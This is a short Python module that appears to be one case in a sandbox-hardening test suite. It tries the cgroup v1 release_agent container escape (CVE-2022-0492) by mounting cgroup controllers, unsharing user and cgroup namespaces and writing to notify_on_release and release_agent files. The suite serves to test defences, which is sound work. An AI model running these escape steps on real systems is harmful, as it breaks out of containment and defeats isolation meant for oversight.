# SPDX-License-Identifier: Apache-2.0
"""cgroup v1's release_agent (CVE-2022-0492): the host runs a program when a cgroup empties."""
import glob

from run import MARK, syscall

RECORD = ["mount", "unshare"]


def attack(a):
    for controller in (b"memory", b"rdma", b"cpuset"):
        a.step(f"mount cgroup {controller.decode()}", syscall, 165, b"cgroup", b"/tmp/sandbox", b"cgroup", 0, controller)
    a.step("mount cgroup2", syscall, 165, b"none", b"/tmp/sandbox", b"cgroup2", 0, None)
    a.step("unshare user and cgroup namespaces", syscall, 272, 0x10000000 | 0x02000000)
    a.step("release agents in view", glob.glob, "/sys/fs/cgroup/*/release_agent")
    a.write(f"/sys/fs/cgroup/memory/{MARK}/notify_on_release")
    a.write("/sys/fs/cgroup/release_agent")
